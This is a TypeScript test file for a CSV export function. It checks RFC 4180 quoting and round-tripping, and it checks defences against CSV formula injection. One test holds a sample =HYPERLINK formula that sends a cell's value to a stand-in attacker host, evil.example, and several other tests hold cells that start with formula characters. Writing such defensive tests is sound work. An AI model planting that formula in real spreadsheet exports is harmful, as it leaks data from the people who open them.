// toCsv: RFC 4180 as read back by csv-parse (a maintained parser, strict: a stray quote or a
// record of the wrong width is an error), and spreadsheet-safe cells (OWASP, CSV injection).
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/downloads/csv.ts';

/** What a strict RFC 4180 reader gets back from the text. */
const readCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

describe('CSV (RFC 4180)', () => {
  it('quotes only fields that need it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "no"')).toBe('"say ""no"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('')).toBe('');
  });

  it('ends every record with CRLF', () => {
    expect(toCsv([['a', 'b'], ['1', '2']])).toBe('a,b\r\n1,2\r\n');
  });

  it('round-trips awkward values through csv-parse', () => {
    const rows = [
      ['id', 'text', 'empty'],
      ['1', 'commas, "quotes" and\r\nCRLF', ''],
      ['2', '“curly” – dash ’ ¶ Қазақстан', ''],
      ['3', '"', ','],
      ['4', 'a mid-text = + - @ stays as it is', 'x-1'],
    ];
    expect(readCsv(toCsv(rows))).toEqual(rows);
  });

  it('refuses rows of different widths when writing', () => {
    expect(() => toCsv([['a', 'b'], ['1']])).toThrow(/row 1/);
  });
});

describe('spreadsheet-safe cells (CSV injection)', () => {
  it('a demand text starting with =HYPERLINK( comes out as text: apostrophe first, quoted', () => {
    const text = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const csv = toCsv([['id', 'text'], ['d-1', text]]);
    expect(csv).toBe('id,text\r\nd-1,"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"\r\n');
    expect(readCsv(csv)[1]).toEqual(['d-1', `'${text}`]);
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+7 (727) 000', `"'+7 (727) 000"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('neutralises a cell starting %j', (value, field) => {
    expect(csvField(value)).toBe(field);
    expect(readCsv(`${field}\r\n`)).toEqual([[`'${value}`]]);
  });

  it('leaves other cells alone, including a formula character later in the text', () => {
    for (const value of ['Calls on the authorities to release', "'quoted already", ' =1', 'a=b', '2013-2600-para-3-2', '']) {
      expect(readCsv(`${toCsv([[value, 'x']])}`)).toEqual([[value, 'x']]);
    }
  });
});
